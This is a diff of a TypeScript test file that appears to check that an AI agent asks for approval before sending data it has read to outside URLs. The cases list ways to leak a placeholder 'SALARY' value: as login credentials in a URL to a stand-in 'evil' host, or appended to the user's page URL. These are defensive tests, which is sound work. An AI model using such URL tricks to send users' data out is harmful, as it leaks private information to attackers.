@@ -113,7 +113,7 @@ it.each<[string, Call]>([
   ["to its own host, as a login", fetching(`http://Ann:SALARY@${hostOf(evil)}/`)],
   ["behind the URL that the user wrote", fetching(`${pageUrl}?q=SALARY`)],
   ["below the URL that the user wrote", fetching(`${pageUrl}/SALARY`)],
-])("waits for a person before it sends what was read %s", async (_where, call) => {
+])("waits for approval before it sends untrusted content %s", async (_where, call) => {
   for (const wording of WORDINGS) {
     const planId = await read(call, wording);
     const view = await settled(planId);
